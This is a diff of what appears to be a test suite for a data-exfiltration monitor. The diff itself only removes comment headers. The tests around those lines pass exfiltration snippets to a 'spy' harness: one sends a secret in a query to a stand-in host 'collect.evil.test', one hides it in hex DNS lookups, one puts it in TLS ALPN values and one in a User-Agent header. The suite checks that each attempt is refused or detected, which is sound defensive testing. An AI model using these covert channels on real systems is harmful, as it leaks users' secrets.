@@ -28,9 +28,6 @@ def spy(backend: Backend) -> Iterator[Thief]:
         yield ready
 
 
-# -- to a stranger
-
-
 @attack("calls a stranger's server over HTTPS, the secret in the query", meets=REFUSED)
 def test_a_query_to_a_stranger(spy: Thief) -> None:
     seen = spy.steals('print(get("collect.evil.test", "/c?k=" + SECRET))')
@@ -124,9 +121,6 @@ def test_udp(spy: Thief) -> None:
     assert seen.rejected().reason is RejectionReason.DATAGRAM
 
 
-# -- by names
-
-
 @attack("looks up names made of the secret in hex, a few bytes each", meets=FOUND)
 def test_look_ups_in_hex(spy: Thief) -> None:
     seen = spy.steals(
@@ -182,9 +176,6 @@ def test_application_protocols(spy: Thief) -> None:
     seen = spy.steals('trusted.set_alpn_protocols([SECRET, "http/1.1"]); print(get(HOST))')
     assert "200" in seen.said
     assert seen.places == {"TLS hello"}
-
-
-# -- through the exchange
 
 
 @attack("puts the secret into the User-Agent of a call to its exchange", meets=FOUND)
